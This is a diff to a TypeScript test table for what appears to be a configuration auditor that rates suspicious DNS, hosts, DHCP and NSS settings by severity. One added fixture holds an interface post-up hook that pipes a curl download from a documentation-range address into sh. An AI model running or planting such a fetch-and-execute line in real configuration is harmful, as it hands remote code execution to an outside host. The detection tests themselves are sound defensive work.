@@ -27,7 +27,12 @@ test.each<[string, Machine, string[]]>([
 	['a long list against advertising', { '/etc/hosts': Array.from({ length: 400 }, (_none, at) => `0.0.0.0 ads${at}.example`).join('\n') + '\n0.0.0.0 stats.symantec.com\n' }, ['low /etc/hosts']],
 	['localhost is somewhere else', { '/etc/hosts': '203.0.113.1 localhost\n' }, ['medium /etc/hosts']],
 	['hosts that anyone may write', { '/etc/hosts': { content: '', mode: 0o666 } }, ['high /etc/hosts']],
-	['a public server nobody knows', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n' }, ['info /etc/resolv.conf']],
+	['a public server that nothing else names', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n' }, ['medium /etc/resolv.conf']],
+	['a public server that the network told', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/var/lib/dhcp/dhclient.eth0.leases': 'lease {\n  option domain-name-servers 203.0.113.53;\n}\n' }, ['info /etc/resolv.conf']],
+	['a server that a command of an interface names as well', { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/etc/network/interfaces': 'iface eth0 inet static\n  address 10.0.0.2/24\n  post-up curl -s http://203.0.113.53/address | sh\n' }, ['medium /etc/resolv.conf']],
+	["the provider's own, beside the machine", { '/etc/resolv.conf': 'nameserver 203.0.113.53\n', '/etc/network/interfaces': 'iface eth0 inet static\n  address 203.0.4.2/24\n' }, ['info /etc/resolv.conf']],
+	['a server for systemd-resolved', { '/etc/systemd/resolved.conf.d/x.conf': '[Resolve]\nDNS=203.0.113.53 9.9.9.9#dns.quad9.net\n' }, ['medium /etc/systemd/resolved.conf.d/x.conf']],
+	['a server in the place of what DHCP tells', { '/etc/dhcp/dhclient.conf': 'supersede domain-name-servers 203.0.113.53, 10.0.0.1;\n' }, ['medium /etc/dhcp/dhclient.conf']],
 	['a module of no package, and its use', { '/etc/nsswitch.conf': 'passwd: files cache0\n', [`${libraries}/libnss_cache0.so.2`]: '' }, [`high ${libraries}/libnss_cache0.so.2`, 'medium /etc/nsswitch.conf']],
 ])('%s', (_name, machine, expected) => {
 	expect(ask(machine)).toEqual(expected);
